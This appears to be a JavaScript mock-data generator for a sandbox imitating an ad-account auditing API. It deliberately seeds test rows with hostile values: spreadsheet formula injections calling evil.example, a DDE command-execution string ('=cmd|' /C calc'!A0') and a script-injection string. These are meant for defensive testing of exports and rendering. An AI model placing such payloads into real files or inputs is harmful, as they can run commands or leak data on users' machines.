'use strict';
/**
 * Deterministic TrueClicks-shaped data for the sandbox.
 *
 * - Seeded PRNG (mulberry32 over an FNV-1a hash of a fixed seed string); no Math.random, no Date.now.
 * - Fixed "today": 2026-11-23T00:00:00Z (a Monday).
 * - Edm.Int64 and Edm.Decimal values are stored as exact decimal STRINGS here ("9007199254740993",
 *   "12345678901234567.891", "87.50"); server.js hands fe-mockserver JS numbers (so $filter/$orderby
 *   work numerically) and writes the exact text back when serialising (see odata.js).
 * - Every hostile value sits at a fixed key, listed in HOSTILE below and in sandbox/README.md.
 *   Hostile rows exist at every scale where the key exists (AccountId 1001..1000+n, TaskId 1..n, ...).
 */

const TODAY_MS = Date.UTC(2026, 10, 23); // 2026-11-23T00:00:00Z
const DAY = 86400000;

const BASE_COUNTS = {
  Accounts: 60,
  HistoryWeeks: 52, // AccountHistory = Accounts x 52
  Users: 64,
  Tasks: 240,
  TargetMonitoringAll: 300,
};

// ---------------------------------------------------------------- PRNG helpers
function hashString(s) {
  let h = 0x811c9dc5;
  for (let i = 0; i < s.length; i++) {
    h ^= s.charCodeAt(i);
    h = Math.imul(h, 0x01000193);
  }
  return h >>> 0;
}

function makeRng(seedString) {
  let a = hashString(seedString);
  const next = () => {
    a = (a + 0x6d2b79f5) | 0;
    let t = Math.imul(a ^ (a >>> 15), 1 | a);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  return {
    next,
    int: (lo, hi) => lo + Math.floor(next() * (hi - lo + 1)), // inclusive
    pick: (arr) => arr[Math.floor(next() * arr.length)],
    chance: (prob) => next() < prob,
    float: (lo, hi) => lo + next() * (hi - lo),
    weighted: (pairs) => {
      // pairs: [[value, weight], ...]
      const total = pairs.reduce((s, x) => s + x[1], 0);
      let r = next() * total;
      for (const [v, w] of pairs) {
        if ((r -= w) < 0) return v;
      }
      return pairs[pairs.length - 1][0];
    },
  };
}

// ---------------------------------------------------------------- date helpers
const pad = (n, w = 2) => String(n).padStart(w, '0');
function isoDate(ms) {
  const d = new Date(ms);
  return `${d.getUTCFullYear()}-${pad(d.getUTCMonth() + 1)}-${pad(d.getUTCDate())}`;
}
/** Date-time with an explicit UTC offset in minutes (0 → "Z"), no fractional seconds. */
function isoDateTime(ms, offsetMinutes = 0) {
  const d = new Date(ms + offsetMinutes * 60000);
  const base = `${isoDate(d.getTime())}T${pad(d.getUTCHours())}:${pad(d.getUTCMinutes())}:${pad(d.getUTCSeconds())}`;
  if (!offsetMinutes) return base + 'Z';
  const sign = offsetMinutes > 0 ? '+' : '-';
  const abs = Math.abs(offsetMinutes);
  return `${base}${sign}${pad(Math.floor(abs / 60))}:${pad(abs % 60)}`;
}
const dec2 = (x) => (Math.round(x * 100) / 100).toFixed(2);
const round = (x, digits) => Math.round(x * 10 ** digits) / 10 ** digits;

// ---------------------------------------------------------------- vocabularies
const BRANDS = [
  'Northwind', 'Contoso', 'Fabrikam', 'Blue Harbor', 'Alpine Outfitters', 'Greenleaf Garden', 'Tailspin Toys',
  'Wide World Importers', 'Proseware', 'Litware', 'Adventure Works', 'Margie\'s Travel', 'Coho Winery',
  'Lucerne Publishing', 'Trey Research', 'Woodgrove Bank', 'Fourth Coffee', 'Humongous Insurance',
  'Graphic Design Institute', 'Relecloud', 'Bellows College', 'VanArsdel', 'Southridge Video', 'Nod Publishers',
  'Consolidated Messenger', 'Datum Dental', 'First Up Consultants', 'Wingtip Sports', 'City Power & Light',
  'School of Fine Art',
];
const SUFFIXES = ['Search', 'Shopping', 'Brand', 'EU', 'US', 'UK', 'DACH', 'Nordics', 'Leads', 'Outlet', 'B2B', 'Retail', 'App installs'];
const CURRENCIES = ['USD', 'EUR', 'GBP', 'EUR', 'USD', 'CAD', 'AUD', 'SEK', 'CHF', 'JPY'];
const LABELS = ['Retail', 'Lead gen', 'Q4 push', 'Key account', 'Onboarding', 'Paused in Jan', 'E-commerce', 'Local', 'Enterprise', 'Churn risk'];
const FIRST_NAMES = ['Anna', 'Ben', 'Chloé', 'David', 'Emma', 'Felix', 'Grace', 'Hugo', 'Isla', 'Jonas', 'Kara', 'Liam', 'Maya', 'Noah', 'Olivia', 'Pieter', 'Quinn', 'Rosa', 'Sven', 'Tara', 'Umar', 'Vera', 'Wei', 'Ximena', 'Yusuf', 'Zoe'];
const LAST_NAMES = ['de Vries', 'Jansen', 'Smith', 'García', 'Müller', 'Okafor', 'Nguyen', 'Kowalski', 'Rossi', 'Andersson', 'Dubois', 'Tanaka', 'Brown', 'Patel', 'O\'Brien', 'Schmidt'];
const ROLES = ['Admin', 'Manager', 'Specialist', 'Specialist', 'Viewer'];
const PLATFORMS = ['Google Ads', 'Microsoft Ads', 'Meta Ads'];

/**
 * Check catalogue (TrueClicks-style rule keys). The five rules with `table` have a check output table
 * (GET <root>CheckOutputTable?accountId=..&ruleKey=..); `platforms` says where the rule applies.
 */
const GS = ['Google Ads', 'Microsoft Ads'];
const ALL = PLATFORMS;
const RULES = [
  { key: 'negative-keyword-conflicts', name: 'Negative keywords blocking active keywords', category: 'Keywords', type: 'Auditing', severity: 'High', platforms: GS, table: true },
  { key: 'wasted-search-terms', name: 'Search terms with spend but no conversions', category: 'Search terms', type: 'Monitoring', severity: 'High', platforms: GS, table: true },
  { key: 'broken-landing-pages', name: 'Landing pages returning errors', category: 'Landing pages', type: 'Monitoring', severity: 'Critical', platforms: ALL, table: true },
  { key: 'budget-limited-campaigns', name: 'Campaigns limited by budget', category: 'Budget', type: 'Monitoring', severity: 'Medium', platforms: ALL, table: true },
  { key: 'disapproved-ads', name: 'Disapproved or limited ads', category: 'Ads', type: 'Monitoring', severity: 'High', platforms: ALL, table: true },
  { key: 'conversion-tracking-active', name: 'Conversion tracking is recording conversions', category: 'Tracking', type: 'Monitoring', severity: 'Critical', platforms: ALL },
  { key: 'auto-tagging-enabled', name: 'Auto-tagging enabled', category: 'Tracking', type: 'Auditing', severity: 'Medium', platforms: GS },
  { key: 'ad-strength-poor', name: 'Responsive search ads with poor ad strength', category: 'Ads', type: 'Auditing', severity: 'Medium', platforms: GS },
  { key: 'rsa-per-ad-group', name: 'At least one RSA per ad group', category: 'Ads', type: 'Auditing', severity: 'Medium', platforms: GS },
  { key: 'sitelinks-missing', name: 'Campaigns without sitelink assets', category: 'Assets', type: 'Auditing', severity: 'Low', platforms: GS },
  { key: 'callouts-missing', name: 'Campaigns without callout assets', category: 'Assets', type: 'Auditing', severity: 'Low', platforms: GS },
  { key: 'broad-match-without-smart-bidding', name: 'Broad match keywords without smart bidding', category: 'Bidding', type: 'Auditing', severity: 'High', platforms: GS },
  { key: 'quality-score-low', name: 'Share of spend on keywords with QS below 5', category: 'Keywords', type: 'Auditing', severity: 'Medium', platforms: GS },
  { key: 'impression-share-lost-rank', name: 'Search impression share lost to rank', category: 'Bidding', type: 'Monitoring', severity: 'Medium', platforms: GS },
  { key: 'cpa-spike', name: 'CPA increased more than 30% week over week', category: 'Performance', type: 'Monitoring', severity: 'High', platforms: ALL },
  { key: 'spend-anomaly', name: 'Daily spend anomaly', category: 'Budget', type: 'Monitoring', severity: 'High', platforms: ALL },
  { key: 'ctr-drop', name: 'CTR dropped more than 20%', category: 'Performance', type: 'Monitoring', severity: 'Medium', platforms: ALL },
  { key: 'no-conversions-7d', name: 'No conversions in the last 7 days', category: 'Performance', type: 'Monitoring', severity: 'Critical', platforms: ALL },
  { key: 'search-partners-enabled', name: 'Search partners enabled', category: 'Settings', type: 'Auditing', severity: 'Low', platforms: GS },
  { key: 'display-expansion-enabled', name: 'Display expansion on search campaigns', category: 'Settings', type: 'Auditing', severity: 'Medium', platforms: ['Google Ads'] },
  { key: 'location-presence-targeting', name: 'Location targeting uses presence only', category: 'Settings', type: 'Auditing', severity: 'Medium', platforms: ALL },
  { key: 'audience-observation-missing', name: 'Remarketing audiences not added in observation', category: 'Audiences', type: 'Auditing', severity: 'Low', platforms: GS },
  { key: 'shared-budget-usage', name: 'Shared budgets across unrelated campaigns', category: 'Budget', type: 'Auditing', severity: 'Low', platforms: GS },
  { key: 'brand-campaign-separation', name: 'Brand and non-brand traffic separated', category: 'Structure', type: 'Auditing', severity: 'Medium', platforms: GS },
  { key: 'pmax-brand-exclusions', name: 'Performance Max brand exclusions', category: 'Structure', type: 'Auditing', severity: 'Medium', platforms: ['Google Ads'] },
];
const OUTPUT_RULE_KEYS = RULES.filter((r) => r.table).map((r) => r.key);

// ---------------------------------------------------------------- hostile values (documented in README.md)
const LONG_DESCRIPTION_LENGTH = 60000;
function longDescription() {
  const para =
    'Weekly audit notes: review search terms, add negatives, check landing pages, compare CPA against target, ' +
    'and confirm conversion tracking. Repeat for every campaign in the account. ';
  let s = '';
  while (s.length < LONG_DESCRIPTION_LENGTH) s += para;
  return s.slice(0, LONG_DESCRIPTION_LENGTH - 4) + ' END';
}

/** Overrides applied after generation, by key. Exported so tests can find them. */
const HOSTILE = {
  Accounts: {
    1002: { LifetimeImpressions: '9007199254740993', Spend30d: '12345678901234567.891' },
    1003: { ExternalCode: '007', LifetimeImpressions: '9223372036854775807' },
    1004: { Owner: null, LifetimeImpressions: '12345678901234567' },
    1005: { CustomerId: '123-456-7890' },
    1006: { Spend30d: '99999999999999999.999' },
    1007: { Name: '=HYPERLINK("http://evil.example","click")' },
    1008: { Name: '+1 (555) 0100 Plumbing' },
    1009: { Name: '-5% budget test account' },
    1010: { Name: '@agency main account' },
    1011: { Name: 'TRUE' },
    1012: { Name: 'FALSE' },
    1013: { Name: '1e5', ExternalCode: '1e5' },
    1014: { Name: '50%' },
    1015: { Name: 'Pizzería Ñandú 🍕🚀' },
    1016: { Name: 'متجر الأناقة – Riyadh' },
    1017: { Name: 'חנות הספרים תל אביב' },
    1018: { Name: 'Smith, Jones & "Partners"' },
    1019: { Name: '  Padded Name  ' },
    1020: { Notes: 'line one\nline two\twith a tab\r\nand "quotes", \'apostrophes\' and a ; semicolon' },
    1021: { Name: '<script>alert(1)</script>' },
    1022: { Labels: [] },
    1023: { Owner: { Name: null, Email: 'unassigned@agency.example' } },
    1024: { Labels: ['=1+2', 'TRUE', '000123', '🚀 launch'] },
    1025: { ExternalCode: '000123' },
  },
  Tasks: {
    3: { Title: '+1 (555) 0100' },
    4: { Title: '-5% budget' },
    5: { Title: '@mention please review' },
    6: { Title: '=IMPORTXML("http://evil.example","//a")' },
    7: { Description: longDescription() },
    8: { Title: 'TRUE' },
    9: { Title: 'FALSE' },
    10: { Title: '1e5' },
    11: { Title: '50%' },
    12: { Title: '🔥 Fix conversion tracking before Black Friday' },
    13: { Title: 'مراجعة الكلمات السلبية' },
    14: { Description: 'Steps:\n1. Pause "Brand | Exact"\n2. Move budget → Generic\t(see sheet)\n3. Done?' },
    15: { Title: '123-456-7890' },
    16: { Title: '000123' },
  },
  Users: {
    U0003: { Name: 'דנה כהן' },
    U0004: { Name: 'Zoë 🚀 Müller' },
    U0005: { Email: 'ops+sheets@agency.example' },
    U0006: { Name: '=cmd|\' /C calc\'!A0' },
  },
};

// ---------------------------------------------------------------- generators
function slug(s) {
  return s.toLowerCase().normalize('NFD').replace(/[\u0300-\u036f]/g, '').replace(/[^a-z0-9]+/g, '-').replace(/^-|-$/g, '');
}
function domainOf(brand) {
  return slug(brand).replace(/-/g, '') + '.example';
}

function customerIdFor(rng, platform) {
  if (platform === 'Google Ads') return `${rng.int(100, 999)}-${rng.int(100, 999)}-${pad(rng.int(0, 9999), 4)}`;
  if (platform === 'Microsoft Ads') {
    const chars = 'ABCDEFGHJKLMNPQRSTUVWXYZ0123456789';
    let s = 'F1';
    for (let i = 0; i < 6; i++) s += chars[rng.int(0, chars.length - 1)];
    return s;
  }
  return 'act_' + rng.int(100000000, 999999999) + pad(rng.int(0, 999999), 6);
}

const OFFSETS_BY_ID_MOD_6 = [0, 120, 0, -300, 0, 330]; // LastUpdated: AccountId % 6 → UTC offset in minutes

function generateAccounts(n) {
  const rng = makeRng('trueclicks-sandbox/accounts/v1');
  const rows = [];
  for (let i = 0; i < n; i++) {
    const id = 1001 + i;
    let platform = rng.weighted([['Google Ads', 60], ['Microsoft Ads', 25], ['Meta Ads', 15]]);
    if (id === 1005) platform = 'Google Ads'; // hostile row: Google-style phone-like CustomerId
    const brand = rng.pick(BRANDS);
    const name = `${brand} – ${rng.pick(SUFFIXES)}`;
    const isActive = rng.chance(0.88);
    const labels = [];
    const labelCount = rng.int(0, 3);
    for (let k = 0; k < labelCount; k++) {
      const l = rng.pick(LABELS);
      if (!labels.includes(l)) labels.push(l);
    }
    const manager = `${rng.pick(FIRST_NAMES)} ${rng.pick(LAST_NAMES)}`;
    const spend = isActive ? dec2(rng.next() ** 2 * 250000 + 150) : '0.00';
    rows.push({
      AccountId: id,
      Name: name,
      Platform: platform,
      CustomerId: customerIdFor(rng, platform),
      ExternalCode: rng.chance(0.1) ? null : pad(rng.int(1, 99999), 6),
      Currency: rng.pick(CURRENCIES),
      OptimizationScore: platform === 'Meta Ads' ? null : round(rng.float(0.35, 1), 3),
      AuditScore: dec2(rng.float(38, 99)),
      MonitoringIssues: rng.int(0, 25),
      Spend30d: spend,
      LifetimeImpressions: String(rng.int(50000, 900000000)),
      IsActive: isActive,
      LastUpdated: isoDateTime(TODAY_MS - rng.int(0, 72 * 3600) * 1000, OFFSETS_BY_ID_MOD_6[id % 6]),
      CreatedOn: isoDate(TODAY_MS - rng.int(380, 2500) * DAY),
      Labels: labels,
      Owner: { Name: manager, Email: slug(manager).replace(/-/g, '.') + '@agency.example' },
      Notes: rng.chance(0.15) ? rng.pick(['Client prefers weekly reports.', 'Budget approved until year end.', 'Shared with in-house team.', 'Migrated from old MCC.']) : null,
      // internal helpers (stripped before serving)
      _brand: brand,
    });
  }
  return rows;
}

function generateHistory(accounts) {
  const rng = makeRng('trueclicks-sandbox/history/v1');
  const rows = [];
  let id = 1;
  const weeks = BASE_COUNTS.HistoryWeeks;
  for (const a of accounts) {
    const current = Number(a.AuditScore);
    const drift = rng.float(-0.4, 0.6);
    const weeklySpend = Number(a.Spend30d) / 4.3;
    const baseCtr = rng.float(0.01, 0.08);
    for (let w = 0; w < weeks; w++) {
      const weekStart = TODAY_MS - (weeks - w) * 7 * DAY; // 52 Mondays: 2025-11-24 .. 2026-11-16 at scale 1
      const back = weeks - 1 - w;
      const score = Math.min(100, Math.max(0, current - back * drift + rng.float(-2.5, 2.5)));
      const spend = a.IsActive || back > 8 ? weeklySpend * rng.float(0.7, 1.3) + rng.float(20, 300) : 0;
      const impressions = Math.round(spend * rng.float(40, 160));
      const clicks = Math.round(impressions * baseCtr * rng.float(0.8, 1.2));
      rows.push({
        HistoryId: id++,
        AccountId: a.AccountId,
        WeekStart: isoDate(weekStart),
        AuditScore: dec2(score),
        OptimizationScore: a.OptimizationScore === null ? null : round(Math.min(1, Math.max(0.2, a.OptimizationScore - back * 0.002 + rng.float(-0.02, 0.02))), 3),
        MonitoringIssues: rng.int(0, 25),
        AuditIssues: rng.int(0, 40),
        Spend: dec2(spend),
        Impressions: String(impressions),
        Clicks: clicks,
        Conversions: round(clicks * rng.float(0, 0.09), 2),
      });
    }
  }
  return rows;
}

/** Row count of a check output table; 0 when (accountId + index of rule in OUTPUT_RULE_KEYS) % 5 === 0. */
function outputRowCount(account, ruleKey) {
  const idx = OUTPUT_RULE_KEYS.indexOf(ruleKey);
  if (idx < 0) return null;
  const rule = RULES.find((r) => r.key === ruleKey);
  if (!rule.platforms.includes(account.Platform)) return 0;
  if ((account.AccountId + idx) % 5 === 0) return 0;
  const rng = makeRng(`trueclicks-sandbox/output-count/${account.AccountId}/${ruleKey}`);
  return ruleKey === 'wasted-search-terms' ? rng.int(5, 120) : rng.int(1, 40);
}

function generateChecks(accounts) {
  const rng = makeRng('trueclicks-sandbox/checks/v1');
  const rows = [];
  let id = 1;
  for (const a of accounts) {
    for (const rule of RULES) {
      if (!rule.platforms.includes(a.Platform)) continue;
      let status;
      let score;
      let value;
      let outputRows = null;
      if (rule.table) {
        outputRows = outputRowCount(a, rule.key);
        status = outputRows === 0 ? 'Passed' : outputRows > 20 ? 'Failed' : 'Warning';
        score = Math.max(0, 100 - outputRows * 3);
        value = outputRows;
      } else {
        status = rng.weighted([['Passed', 55], ['Warning', 20], ['Failed', 15], ['Not applicable', 7], ['Error', 3]]);
        score = status === 'Not applicable' || status === 'Error' ? null : status === 'Passed' ? rng.int(85, 100) : status === 'Warning' ? rng.int(50, 84) : rng.int(0, 49);
        value = score === null ? null : round(rng.float(0, 100), 2);
      }
      rows.push({
        CheckId: id++,
        AccountId: a.AccountId,
        RuleKey: rule.key,
        CheckName: rule.name,
        Category: rule.category,
        CheckType: rule.type,
        Severity: rule.severity,
        Score: score,
        Value: value,
        Status: status,
        HasOutputTable: !!rule.table,
        OutputRowCount: outputRows,
        LastCalculated: isoDateTime(TODAY_MS - rng.int(0, 36 * 3600) * 1000),
      });
    }
  }
  return rows;
}

function generateUsers(n, accountCount) {
  const rng = makeRng('trueclicks-sandbox/users/v1');
  const rows = [];
  for (let i = 0; i < n; i++) {
    const first = rng.pick(FIRST_NAMES);
    const last = rng.pick(LAST_NAMES);
    const pending = rng.chance(0.2);
    const invitedMs = TODAY_MS - rng.int(1, 900) * DAY + rng.int(0, 86399) * 1000;
    let lastLogin = null;
    if (!pending && !rng.chance(0.1)) lastLogin = isoDateTime(invitedMs + Math.floor(rng.next() * (TODAY_MS - invitedMs)));
    rows.push({
      UserId: 'U' + pad(i + 1, 4),
      Email: `${slug(first)}.${slug(last).replace(/-/g, '')}${i > 25 ? i : ''}@agency.example`,
      Name: pending ? null : `${first} ${last}`,
      Role: rng.pick(ROLES),
      Status: pending ? 'Pending' : 'Active',
      InvitedAt: isoDateTime(invitedMs),
      LastLogin: lastLogin,
      AccessibleAccounts: rng.int(1, accountCount),
      TwoFactorEnabled: !pending && rng.chance(0.7),
    });
  }
  return rows;
}

const TASK_TEMPLATES = [
  (a, c) => `Review: ${c ? c.CheckName : 'monthly audit'}`,
  (a) => `Add negatives for ${a._brand}`,
  () => 'Update ad copy for seasonal promotion',
  () => 'Check landing page speed',
  (a) => `Rebalance budget across ${a.Platform} campaigns`,
  () => 'Set up offline conversion import',
  () => 'Pause low-performing keywords',
  (a, c) => (c ? `Fix "${c.RuleKey}" findings` : 'Clean up shared negative lists'),
];

function generateTasks(n, accounts, checks, users) {
  const rng = makeRng('trueclicks-sandbox/tasks/v1');
  const checksByAccount = new Map();
  for (const c of checks) {
    if (!checksByAccount.has(c.AccountId)) checksByAccount.set(c.AccountId, []);
    checksByAccount.get(c.AccountId).push(c);
  }
  const assignees = users.filter((u) => u.Status === 'Active').map((u) => u.Email);
  const rows = [];
  for (let i = 0; i < n; i++) {
    const a = rng.pick(accounts);
    const c = rng.chance(0.6) ? rng.pick(checksByAccount.get(a.AccountId)) : null;
    const status = rng.weighted([['Open', 40], ['In progress', 25], ['Done', 30], ["Won't fix", 5]]);
    rows.push({
      TaskId: i + 1,
      AccountId: a.AccountId,
      CheckId: c ? c.CheckId : null,
      Title: rng.pick(TASK_TEMPLATES)(a, c),
      Description: rng.chance(0.3) ? null : rng.pick([
        'Look at the last 30 days and compare with the previous period.',
        'Client asked for this in the weekly call.',
        'See the check output table for the affected rows.',
        'Coordinate with the content team before changing copy.',
      ]),
      Status: status,
      Priority: rng.weighted([['Low', 25], ['Medium', 40], ['High', 25], ['Urgent', 10]]),
      DueDate: rng.chance(0.25) ? null : isoDate(TODAY_MS + rng.int(-30, 60) * DAY),
      Assignee: rng.chance(0.2) || assignees.length === 0 ? null : rng.pick(assignees),
      CreatedAt: isoDateTime(TODAY_MS - rng.int(0, 120 * 86400) * 1000),
    });
  }
  return rows;
}

function periodBounds(period, k) {
  const t = new Date(TODAY_MS);
  if (period === 'Weekly') {
    const start = TODAY_MS + k * 7 * DAY; // TODAY is a Monday
    return [start, start + 6 * DAY];
  }
  if (period === 'Monthly') {
    const y = t.getUTCFullYear();
    const m = t.getUTCMonth() + k;
    return [Date.UTC(y, m, 1), Date.UTC(y, m + 1, 0)];
  }
  const q = Math.floor(t.getUTCMonth() / 3) + k; // Quarterly
  return [Date.UTC(t.getUTCFullYear(), q * 3, 1), Date.UTC(t.getUTCFullYear(), q * 3 + 3, 0)];
}

const METRICS = [
  ['Spend', () => [1000, 100000, 2]],
  ['Conversions', () => [20, 2000, 0]],
  ['CPA', () => [5, 150, 2]],
  ['ROAS', () => [1.5, 12, 2]],
  ['Clicks', () => [1000, 50000, 0]],
  ['CTR', () => [0.5, 12, 2]],
];

/** A target's actual value and status: none yet for a future period (k > 0), else drawn around the target. */
function targetOutcome(rng, { metric, target, digits, k, start, end }) {
  if (k > 0) return { actual: null, status: 'Scheduled' };
  const elapsed = k < 0 ? 1 : (TODAY_MS - start + DAY) / (end - start + DAY);
  const cumulative = metric === 'Spend' || metric === 'Conversions' || metric === 'Clicks';
  const actual = round(target * rng.float(0.55, 1.35) * (cumulative ? elapsed : 1), digits);
  const ratio = actual / (target * (cumulative ? elapsed : 1));
  const lowerIsBetter = metric === 'CPA';
  const good = lowerIsBetter ? ratio <= 1.05 : ratio >= 0.95;
  const close = lowerIsBetter ? ratio <= 1.2 : ratio >= 0.8;
  const status = k < 0 ? (good ? 'Met' : 'Missed') : good ? 'On track' : close ? 'At risk' : 'Off track';
  return { actual, status };
}

function generateTargets(n, accounts) {
  const rng = makeRng('trueclicks-sandbox/targets/v1');
  const rows = [];
  for (let i = 0; i < n; i++) {
    const a = rng.pick(accounts);
    const [metric, range] = rng.pick(METRICS);
    const [lo, hi, digits] = range();
    const period = rng.weighted([['Monthly', 60], ['Quarterly', 25], ['Weekly', 15]]);
    const k = rng.weighted([[0, 45], [-1, 15], [-2, 10], [-3, 8], [-4, 6], [-6, 6], [1, 7], [2, 3]]);
    const [start, end] = periodBounds(period, k);
    const target = round(rng.float(lo, hi), digits);
    const { actual, status } = targetOutcome(rng, { metric, target, digits, k, start, end });
    rows.push({
      TargetId: i + 1,
      AccountId: a.AccountId,
      Metric: metric,
      Period: period,
      TargetValue: target.toFixed(2),
      ActualValue: actual === null ? null : actual.toFixed(2),
      Progress: actual === null ? null : round(actual / target, 4),
      PeriodStart: isoDate(start),
      PeriodEnd: isoDate(end),
      Status: status,
    });
  }
  return rows;
}

function applyHostile(rows, keyName, overrides) {
  const byKey = new Map(rows.map((r) => [String(r[keyName]), r]));
  for (const [k, patch] of Object.entries(overrides)) {
    const row = byKey.get(k);
    if (row) Object.assign(row, JSON.parse(JSON.stringify(patch)));
  }
}

/**
 * Generates the whole data set. Returns { sets: { Accounts: [...], ... }, accountsById, scale }.
 * Rows are canonical: Int64/Decimal as exact strings, Edm.Date as 'YYYY-MM-DD',
 * Edm.DateTimeOffset as ISO strings with their offset.
 */
function generateData(scale = 1) {
  if (!(scale > 0)) throw new Error(`scale must be > 0 (got ${scale})`);
  const n = (base) => Math.max(1, Math.round(base * scale));
  const accounts = generateAccounts(n(BASE_COUNTS.Accounts));
  const history = generateHistory(accounts);
  const checks = generateChecks(accounts);
  const users = generateUsers(n(BASE_COUNTS.Users), accounts.length);
  applyHostile(users, 'UserId', HOSTILE.Users);
  const tasks = generateTasks(n(BASE_COUNTS.Tasks), accounts, checks, users);
  applyHostile(tasks, 'TaskId', HOSTILE.Tasks);
  const targetsAll = generateTargets(n(BASE_COUNTS.TargetMonitoringAll), accounts);
  const todayIso = isoDate(TODAY_MS);
  const targetsActive = targetsAll.filter((t) => t.PeriodStart <= todayIso && todayIso <= t.PeriodEnd);

  applyHostile(accounts, 'AccountId', HOSTILE.Accounts);
  const accountsById = new Map(accounts.map((a) => [a.AccountId, a]));
  const publicAccounts = accounts.map((a) => {
    const { _brand, ...rest } = a;
    return rest;
  });
  return {
    scale,
    accountsById,
    sets: {
      Accounts: publicAccounts,
      AccountHistory: history,
      Checks: checks,
      Users: users,
      Tasks: tasks,
      TargetMonitoringActive: targetsActive,
      TargetMonitoringAll: targetsAll,
    },
  };
}

// ---------------------------------------------------------------- check output tables (REST)
const KEYWORDS = ['running shoes', 'trail running shoes', 'waterproof jacket', 'kids sneakers', 'marathon training plan', 'gore-tex boots', 'hiking socks', 'yoga mat', 'gym bag', 'cycling gloves'];
const SEARCH_TERM_EXTRAS = ['near me', 'sale', 'cheap', 'free', 'reviews', 'size 44', 'how to clean', 'black friday', '2026', 'outlet'];
const POLICY_TOPICS = ['Destination not working', 'Misleading content', 'Trademarks in ad text', 'Unavailable promotions', 'Editorial: punctuation', 'Healthcare and medicines', 'Gambling and games'];

function campaignsFor(account, rng) {
  const b = account._brand || 'Account';
  return [`${b} | Search | Brand`, `${b} | Search | Generic`, `${b} | PMax | All products`, `${b} – Shopping (NL)`, `Remarketing – ${b}`].slice(0, rng.int(2, 5));
}

function matchTyped(kw, type) {
  if (type === 'Exact') return `[${kw}]`;
  if (type === 'Phrase') return `"${kw}"`;
  return kw;
}

const TABLE_BUILDERS = {
  'negative-keyword-conflicts': (account, rng, i, camps) => {
    const kw = rng.pick(KEYWORDS);
    const matchType = rng.pick(['Exact', 'Phrase', 'Broad']);
    const level = rng.pick(['Campaign', 'Ad group', 'Shared list']);
    const negWord = kw.split(' ')[rng.int(0, kw.split(' ').length - 1)];
    return {
      Campaign: rng.pick(camps),
      AdGroup: `AG ${pad(i + 1, 3)} – ${kw}`,
      Keyword: matchTyped(kw, matchType),
      MatchType: matchType,
      NegativeKeyword: rng.chance(0.3) ? `-${negWord}` : matchTyped(negWord, rng.pick(['Exact', 'Phrase', 'Broad'])),
      NegativeLevel: level,
      SharedListName: level === 'Shared list' ? rng.pick(['Brand negatives', 'Competitors', 'Jobs & free']) : null,
    };
  },
  'wasted-search-terms': (account, rng, i, camps) => {
    const term = i === 0 ? '@home workout shoes' : i === 1 ? '-40% running shoes' : `${rng.pick(KEYWORDS)} ${rng.pick(SEARCH_TERM_EXTRAS)}`;
    const impressions = rng.int(30, 20000);
    const clicks = rng.int(1, Math.max(1, Math.floor(impressions / 12)));
    const cost = round(clicks * rng.float(0.15, 3.5), 2);
    const conversions = rng.chance(0.8) ? 0 : round(rng.float(0.5, 3), 2);
    return {
      SearchTerm: term,
      Campaign: rng.pick(camps),
      AdGroup: `AG ${pad(rng.int(1, 40), 3)}`,
      MatchedKeyword: matchTyped(rng.pick(KEYWORDS), rng.pick(['Exact', 'Phrase', 'Broad'])),
      Impressions: impressions,
      Clicks: clicks,
      Cost: cost,
      Currency: account.Currency,
      Conversions: conversions,
      Ctr: round(clicks / impressions, 4),
      CostPerConversion: conversions === 0 ? null : round(cost / conversions, 2),
    };
  },
  'broken-landing-pages': (account, rng, i, camps) => {
    const status = rng.weighted([[404, 40], [410, 5], [500, 15], [503, 10], [301, 20], [null, 10]]);
    const path = rng.pick(['collections/sale', 'products/trail-runner-2', 'landing/black-friday', 'p/12345?ref=ads', 'en-gb/outlet/', 'checkout?step=1']);
    const url = `https://www.${domainOf(account._brand || 'example')}/${path}${path.includes('?') ? '&' : '?'}utm_source=google&utm_medium=cpc&gclid={gclid}`;
    return {
      FinalUrl: url,
      HttpStatus: status,
      Error: status === null ? rng.pick(['Timeout after 30 s', 'DNS lookup failed', 'TLS certificate expired']) : null,
      RedirectsTo: status === 301 ? `https://www.${domainOf(account._brand || 'example')}/` : null,
      Campaign: rng.pick(camps),
      Ad: { AdId: String(rng.int(100000000, 999999999)) + pad(rng.int(0, 999), 3), Headline: `${rng.pick(KEYWORDS)} – up to 50% off`, Type: rng.pick(['Responsive search ad', 'Performance Max asset group', 'Sitelink']) },
      Clicks30d: rng.int(0, 4000),
      LastChecked: isoDateTime(TODAY_MS - rng.int(0, 20 * 3600) * 1000),
    };
  },
  'budget-limited-campaigns': (account, rng, i, camps) => {
    const daily = round(rng.float(10, 2500), 2);
    const since = TODAY_MS - rng.int(1, 90) * DAY;
    return {
      Campaign: camps[i % camps.length] + (i >= camps.length ? ` #${i + 1}` : ''),
      CampaignId: String(rng.int(1000000000, 2147483647)) + pad(rng.int(0, 99), 2),
      DailyBudget: daily,
      Currency: account.Currency,
      RecommendedBudget: rng.chance(0.25) ? null : round(daily * rng.float(1.1, 3), 2),
      LostImpressionShareBudget: round(rng.float(0.01, 0.9), 4),
      LimitedSince: isoDate(since),
      DaysLimited: Math.round((TODAY_MS - since) / DAY),
      Period: { Start: isoDate(TODAY_MS - 30 * DAY), End: isoDate(TODAY_MS - DAY) },
    };
  },
  'disapproved-ads': (account, rng, i, camps) => {
    const topics = [];
    const count = rng.int(1, 3);
    for (let k = 0; k < count; k++) {
      const t = rng.pick(POLICY_TOPICS);
      if (!topics.includes(t)) topics.push(t);
    }
    return {
      AdId: String(rng.int(100000000, 999999999)) + pad(rng.int(0, 999), 3),
      Campaign: rng.pick(camps),
      AdGroup: `AG ${pad(rng.int(1, 40), 3)}`,
      Headline: rng.chance(0.1) ? '=HYPERLINK("http://evil.example")' : `${rng.pick(KEYWORDS)} | Free shipping`,
      PolicyTopics: topics,
      ApprovalStatus: rng.pick(['Disapproved', 'Approved (limited)', 'Disapproved']),
      ReviewedAt: isoDateTime(TODAY_MS - rng.int(0, 14 * 86400) * 1000),
    };
  },
};

/** Rows of a check output table (deterministic per account + rule key). */
function checkOutputRows(account, ruleKey) {
  const count = outputRowCount(account, ruleKey);
  if (!count) return [];
  const rng = makeRng(`trueclicks-sandbox/output/${account.AccountId}/${ruleKey}`);
  const camps = campaignsFor(account, rng);
  const build = TABLE_BUILDERS[ruleKey];
  const rows = [];
  for (let i = 0; i < count; i++) rows.push(build(account, rng, i, camps));
  return rows;
}

module.exports = {
  TODAY_MS,
  TODAY_ISO: isoDateTime(TODAY_MS),
  BASE_COUNTS,
  RULES,
